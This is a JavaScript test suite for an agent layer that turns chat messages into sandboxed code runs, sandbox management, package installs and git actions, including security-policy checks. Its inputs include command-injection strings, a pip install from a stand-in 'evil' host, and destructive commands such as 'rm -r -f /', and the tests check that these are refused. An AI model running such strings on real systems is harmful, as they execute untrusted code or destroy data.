// SPDX-License-Identifier: Apache-2.0
// Messages to the agent layer: what is plainly asked for is done, and nothing else.
import { test } from '../../lib/case.mjs'
import { after, before } from 'node:test'
import assert from 'node:assert/strict'
import fs from 'node:fs'
import { atoll, ok } from '../../lib/cli.mjs'
import { api, server } from '../../lib/client.mjs'
import { newServer } from '../../lib/server.mjs'

let own
before(async () => {
	own = await newServer(server.buildDir).start()
})
after(() => own?.stop())

const call = (method, where, body) => api(method, where, body, { key: own.key, base: own.url })
const say = async (text, more = {}) => {
	const r = await call('POST', '/agent/messages', { text, ...more })
	assert.equal(r.status, 200, r.text)
	return r.json
}
const sandboxes = async () => (await call('GET', '/sandboxes')).json.map((s) => s.sandboxID)
const block = (language, code) => '```' + language + '\n' + code + '\n```\n'

test('which messages ask for code to be run, and which do not', async () => {
	for (const text of [
		block('python', 'print(1)'),
		'print(1)',
		'execute `1+1`',
		'run print(2)',
		'Can you run some python code?',
		'calculate 1 + 1',
	])
		assert.deepEqual((await say(text, { dryRun: true })).actions, ['EXECUTE_CODE'], text)
	for (const text of ['Hello, how are you?', 'I went for a run this morning', 'If you like, we can talk'])
		assert.deepEqual((await say(text)).actions, [], text)
	assert.deepEqual(await sandboxes(), [])
})

test('all blocks are run in order; success is false if one failed; the reply holds it all', async () => {
	let r = await say(
		`First \n${block('python', 'x = 2\nprint("out")\nx * 3')}` +
			` then \n${block('js', 'console.log("from js")')}`,
		{ agentId: 'blocks' },
	)
	assert.deepEqual(r.actions, ['EXECUTE_CODE'])
	assert.deepEqual(r.values, { success: true })
	assert.deepEqual(Object.keys(r.data), ['executionResults'])
	assert.deepEqual(
		r.data.executionResults.map((e) => [e.language, e.text, e.logs.stdout]),
		[
			['python', '6', ['out\n']],
			['javascript', null, ['from js\n']],
		],
	)
	assert.match(r.text, /\*\*Result\*\*\n```\n6\n```/)
	assert.match(r.text, /\*\*Output\*\*\n```\nout\n```/)
	r = await say(block('python', '1/0') + block('python', 'x'), {
		e2bSessionId: r.e2bSessionId,
		workingDirectory: '/home/user',
	})
	assert.equal(r.workingDirectory, '/home/user')
	assert.equal(r.values.success, false)
	assert.deepEqual(
		r.data.executionResults.map((e) => e.success),
		[false, true],
	)
	assert.match(r.text, /ZeroDivisionError: division by zero/)
	assert.match(r.text, /\*\*Traceback\*\*/)
	assert.equal(r.data.executionResults[1].text, '2')
})

test('quotes and shell characters of a prompt reach the code as they are', async () => {
	const odd = `it's "q" \\ $(id) \`id\` ; rm -rf x && {} \u00e9\u4e16 ''' """`
	const r = await say(block('python', `print(${JSON.stringify(odd)})`), { agentId: 'odd' })
	assert.deepEqual(r.data.executionResults[0].logs.stdout, [odd + '\n'])
	assert.equal((await say(`${odd} ${odd}`)).actions.length, 0)
})

test('sums', async () => {
	const r = await say('What is 15 * 23?')
	assert.equal(r.data.executionResults[0].text, '345')
	assert.equal(r.text, '15 * 23 = 345')
	assert.equal(r.e2bSessionId, null)
	assert.equal((await say('what is 1/0?')).values.success, false)
})

test('the three sentences about sandboxes; only the one that is named is ended', async () => {
	const before = await sandboxes()
	await say('Create a new sandbox with 10 minute timeout', { dryRun: true })
	assert.deepEqual(await sandboxes(), before)
	const made = (await say('Create a new sandbox with 10 minute timeout')).data.sandbox
	const info = (await call('GET', `/sandboxes/${made.sandboxId}`)).json
	assert.ok(Math.abs(Date.parse(info.endAt) - Date.parse(info.startedAt) - 600000) <= 1000)
	const other = (await say('please create a sandbox')).data.sandbox
	const list = await say('Show me all active sandboxes')
	for (const { sandboxId } of [made, other])
		assert.ok(
			list.data.sandboxes.some(
				(s) =>
					s.sandboxId === sandboxId &&
					s.isActive &&
					s.createdAt &&
					s.lastActivity &&
					s.template,
			),
		)
	for (const text of [
		'Kill sandbox inosuchsandbox000000',
		'Kill the sandbox',
		'kill all sandboxes',
		'Kill sandbox now',
		`Don't kill sandbox ${made.sandboxId}`,
	]) {
		assert.equal((await say(text)).values.success, false, text)
		const now = await sandboxes()
		assert.ok(now.includes(made.sandboxId) && now.includes(other.sandboxId), text)
	}
	const killed = await say(`Kill sandbox ${made.sandboxId}`)
	assert.equal(killed.values.success, true)
	assert.deepEqual(killed.data.killed, [made.sandboxId])
	const left = await sandboxes()
	assert.ok(!left.includes(made.sandboxId) && left.includes(other.sandboxId))
	await say(`Kill sandbox ${other.sandboxId}`)
})

test('packages by name only; the policy; languages', async () => {
	for (const text of ['install x; rm -rf /', 'pip install --index-url=http://evil x', 'npm install $(id)']) {
		const r = await say(text, { agentId: 'nothing' })
		assert.deepEqual(r.actions, ['INSTALL_PACKAGES'])
		assert.equal(r.values.success, false)
		assert.equal(r.e2bSessionId, null, 'no session was made for it')
	}
	let r = await say(block('bash', 'sudo ls'), { agentId: 'nothing' })
	assert.match(r.text, /Command not allowed by security policy/)
	assert.equal(r.e2bSessionId, null)
	r = await say(block('cobol', 'x'), { agentId: 'nothing' })
	assert.match(r.text, /Unsupported language: cobol/)
	assert.equal(r.e2bSessionId, null)
})

test('a token in the URL of a repository is in no reply, log or record', async () => {
	const r = await say('Clone http://someone:TOPSECRETTOKEN@127.0.0.1:1/x.git into /home/user/x', {
		agentId: 'git',
	})
	assert.deepEqual(r.actions, ['GIT'])
	assert.equal(r.values.success, false)
	assert.equal(r.data.git.url, 'http://127.0.0.1:1/x.git')
	assert.ok(!JSON.stringify(r).includes('TOPSECRETTOKEN'))
	assert.ok(!fs.readFileSync(own.log, 'utf8').includes('TOPSECRETTOKEN'))
	assert.ok(!(await call('GET', '/audit')).text.includes('TOPSECRETTOKEN'))
})

test('git by messages: status, commit, push, diff and pull in a repository of the session', async () => {
	const agentId = 'git-work',
		dir = '/home/user/project'
	const sh = (code) => say(block('bash', code), { agentId })
	// A6: cells run as root, git as the user. The settings of git are the user's; the repository is whose it
	// happens to be.
	const made = await sh(
		`export HOME=/home/user; git config --global user.name A; git config --global user.email ` +
			`a@example.com; git config --global init.defaultBranch main
git init -q --bare /home/user/remote.git && git clone -q /home/user/remote.git ${dir} ` +
			`2>/dev/null; cd ${dir} && echo one >f && git add f && git commit -qm zero && git push ` +
			`-q -u origin HEAD && echo two >>f && chown -R user:user /home/user/.gitconfig ` +
			`/home/user/remote.git && echo ready`,
	)
	assert.match(made.text, /ready/, made.text)
	const git = async (text, more = {}) => {
		const r = await say(text, { agentId, ...more })
		assert.deepEqual(r.actions, ['GIT'], r.text)
		return r
	}
	assert.match((await git(`git status in ${dir}`)).text, /On branch main, 1 changed files[^]*M f/)
	assert.match((await git(`git diff in ${dir}`)).text, /\+two/)
	const odd = `it's $(id) ; done`
	const committed = await git(`git commit "${odd}" in ${dir}`)
	assert.equal(committed.values.success, true, committed.text)
	assert.equal((await git('git push', { workingDirectory: dir })).values.success, true)
	assert.match((await sh('git --git-dir=/home/user/remote.git log -1 --format=%s')).text, /it's \$\(id\) ; done/)
	// The remote stands for one on another machine, which is whoever's login says.
	await sh(
		`export HOME=/home/user; chown -R root:root /home/user/remote.git; git clone -q ` +
			`/home/user/remote.git /home/user/other && cd /home/user/other && echo three >>f && git ` +
			`commit -qam other && git push -q; chown -R user:user /home/user/remote.git`,
	)
	assert.equal((await git(`git pull in ${dir}`)).values.success, true)
	assert.match((await sh(`cat ${dir}/f`)).text, /three/)
	const nowhere = await git('git status in /home/user/none')
	assert.equal(nowhere.values.success, false)
})

// The programs of the README of ElizaOS' plugin-e2b, with a server of their own in place of the internet's.
test("A1: the programs of the plugin's README run for an agent that names no template", async () => {
	const ask = async (text) => {
		const r = await say(text, { agentId: 'readme', timeout: 150000 })
		assert.equal(r.values.success, true, r.text)
		return r.data.executionResults.at(-1)
	}
	const serve =
		`import http.server, threading
class Pages(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body, kind = {'/data.csv': (b'a,b\\n1,2\\n3,5\\n', 'text/csv'), '/repos': (b'[{"id": 1}, {"id": 2}]', ` +
		`'application/json')}.get(
            self.path, (b'<html><title>Example Domain</title></html>', 'text/html'))
        self.send_response(200); self.send_header('Content-Type', kind); self.end_headers(); ` +
		`self.wfile.write(body)
    def log_message(self, *a): pass
server = http.server.ThreadingHTTPServer(('127.0.0.1', 0), Pages)
threading.Thread(target=server.serve_forever, daemon=True).start()
url = f'http://127.0.0.1:{server.server_port}'`
	await ask(block('python', serve))
	const chart = await ask(
		'Create a matplotlib chart showing sin and cos waves\n' +
			block(
				'python',
				`import numpy as np
import matplotlib.pyplot as plt
x = np.linspace(0, 10, 100)
plt.plot(x, np.sin(x)); plt.plot(x, np.cos(x)); plt.title('Waves')
plt.show()`,
			),
	)
	assert.ok(
		chart.results.some((r) => r.png),
		'the chart is an image',
	)
	const data = await ask(
		'Analyze this CSV data and show me statistics\n' +
			block(
				'python',
				`import pandas as pd
import matplotlib.pyplot as plt
df = pd.read_csv(url + '/data.csv')
print(df.describe())
plt.figure(figsize=(10, 6)); df.plot(kind='bar'); plt.title('Data Analysis'); plt.show()`,
			),
	)
	assert.match(data.logs.stdout.join(''), /mean +2\.0+ +3\.50*/)
	const web = await ask(
		'Execute this:\n' +
			block(
				'python',
				`import requests
from bs4 import BeautifulSoup
print(f"Found {len(requests.get(url + '/repos').json())} repositories")
print('Page title: ' + BeautifulSoup(requests.get(url).text, 'html.parser').find('title').text)`,
			),
	)
	assert.match(web.logs.stdout.join(''), /Found 2 repositories\nPage title: Example Domain/)
	const model = await ask(
		'Run this:\n' +
			block(
				'python',
				`from sklearn.datasets import load_iris
from sklearn.model_selection import train_test_split
from sklearn.ensemble import RandomForestClassifier
iris = load_iris()
X_train, X_test, y_train, y_test = train_test_split(iris.data, iris.target, test_size=0.2)
model = RandomForestClassifier().fit(X_train, y_train)
print(f"Model accuracy: {model.score(X_test, y_test):.2%}")`,
			),
	)
	assert.match(model.logs.stdout.join(''), /Model accuracy: \d/)
	const sessions = (await call('GET', '/agent/sessions')).json
	await call('DELETE', `/agent/sessions/${sessions.find((s) => s.agentId === 'readme').sessionId}`)
})

test('A1: one default template for sessions, messages, tools and the command line', async () => {
	const templateOf = async (id) => (await call('GET', `/sandboxes/${id}`)).json.alias
	const env = { E2B_API_URL: own.url, E2B_SANDBOX_URL: own.url, E2B_API_KEY: own.key, E2B_TEMPLATE_ID: '' }
	const session = (await call('POST', '/agent/sessions', { agentId: 'default-template' })).json
	const ids = [
		session.sandboxId,
		(await say('Create a new sandbox')).data.sandbox.sandboxId,
		(await call('POST', '/agent/tools/run_code', { code: '1' })).json.structuredContent.sandboxId,
		(await call('POST', '/agent/tools/create_sandbox', {})).json.structuredContent.sandboxId,
		ok(['create'], { env }).trim(),
	]
	for (const id of ids) assert.equal(await templateOf(id), 'code-interpreter-v1')
	assert.match(ok(['run', '-'], { env, input: 'import numpy; print(numpy.arange(3).sum())' }), /^3$/m)
	for (const id of ids) await call('DELETE', `/sandboxes/${id}`)
	await call('DELETE', `/agent/sessions/${session.sessionId}`)
})

test('bad input', async () => {
	for (const [body, status, text] of [
		[{}, 400, /'text'/],
		[{ text: 5 }, 400, /'text'/],
		[{ text: 'x', dryRun: 'yes' }, 400, /'dryRun'/],
		[{ text: 'x', timeout: 0 }, 400, /'timeout'/],
		['[]', 400, /object/],
		[{ text: 'x', e2bSessionId: 'ses_none' }, 404, /no session/],
		[{ text: 'a'.repeat((1 << 20) + 1) }, 413, /longer/],
		[{ content: {} }, 400, /'text'/],
	]) {
		const r = await call('POST', '/agent/messages', body)
		assert.equal(r.status, status, r.text.slice(0, 200))
		assert.match(r.json.message, text)
	}
	assert.deepEqual(
		(await call('POST', '/agent/messages', { content: { text: 'What is 2 + 2?' } })).json.actions,
		['EXECUTE_CODE'],
	)
})

test('the state tells what an agent should know', async () => {
	const r = (await call('GET', '/agent/state')).json
	assert.equal(r.canExecuteCode, true)
	assert.equal(r.isHealthy, true)
	assert.equal(r.status, 'ok')
	assert.equal(r.counts.sandboxes, r.sandboxes.length)
	assert.ok(r.text && r.capabilities.languages.includes('python') && r.breaker === 'closed')
	assert.equal((await call('GET', '/agent/health')).json.status, 'ok')
})

test('atoll say, session and policy', async () => {
	const env = { E2B_API_URL: own.url, E2B_API_KEY: own.key }
	assert.equal(ok(['say', 'What', 'is', '15', '*', '23?'], { env }), '15 * 23 = 345\n')
	assert.equal(atoll(['say', 'kill sandbox now'], { env }).code, 1)
	const id = ok(['session', 'create', '--agent', 'cli', '--cache'], { env }).trim()
	assert.equal(JSON.parse(ok(['session', 'run', id, '1 + 1'], { env })).text, '2')
	assert.equal(JSON.parse(ok(['session', 'run', id, '1 + 1'], { env })).cached, true)
	assert.match(ok(['session', 'list'], { env }), new RegExp(`${id} +cli`))
	assert.match(ok(['say', '--session', id, '-'], { env, input: block('python', 'print("hi")') }), /hi/)
	assert.equal(atoll(['session', 'run', id, '!sudo ls'], { env }).code, 1)
	ok(['session', 'rm', id], { env })
	assert.match(atoll(['session', 'info', id], { env }).err, /there is no session/)
	assert.equal(ok(['policy', 'test', 'git log --format=%h'], { env }), 'allowed\n')
	const refused = atoll(['policy', 'test', 'rm -r -f /'], { env })
	assert.equal(refused.code, 1)
	assert.match(refused.out, /^Command not allowed by security policy: .*rule rm-root, severity critical/)
})

test('while no sandbox can be had, messages are answered, with what to do, and the rest works', async () => {
	const [team] = (await call('GET', '/teams')).json
	const set = (maxSandboxes) => call('PATCH', `/admin/teams/${team.teamID}`, { maxSandboxes })
	assert.equal((await set(0)).status, 200)
	const r = await say(block('python', '1'), { agentId: 'nobody' })
	assert.equal(r.values.success, false)
	assert.equal(r.data.executionResults[0].error.type, 'LIMIT_REACHED', JSON.stringify(r))
	assert.ok(r.data.executionResults[0].error.remedy)
	assert.equal((await say('What is 2 + 3?')).data.executionResults[0].text, '5')
	assert.equal((await set(null)).status, 200)
	assert.equal((await say(block('python', '1'), { agentId: 'nobody' })).values.success, true)
	// No server at all: the client says what is wrong.
	const away = atoll(['say', 'What is 1 + 1?'], {
		env: { E2B_API_URL: 'http://127.0.0.1:1', E2B_API_KEY: own.key },
	})
	assert.equal(away.code, 1)
	assert.match(away.err, /is the server running/)
})
